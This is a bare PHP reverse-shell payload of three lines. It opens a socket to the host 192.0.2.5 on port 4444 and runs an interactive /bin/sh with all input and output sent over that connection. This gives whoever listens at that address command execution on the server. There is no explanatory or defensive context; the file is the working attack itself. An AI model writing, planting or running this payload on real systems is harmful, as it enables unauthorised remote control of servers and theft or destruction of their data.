<?php
$sock = fsockopen("192.0.2.5", 4444);
$p = proc_open("/bin/sh -i", array(0 => $sock, 1 => $sock, 2 => $sock), $pipes);
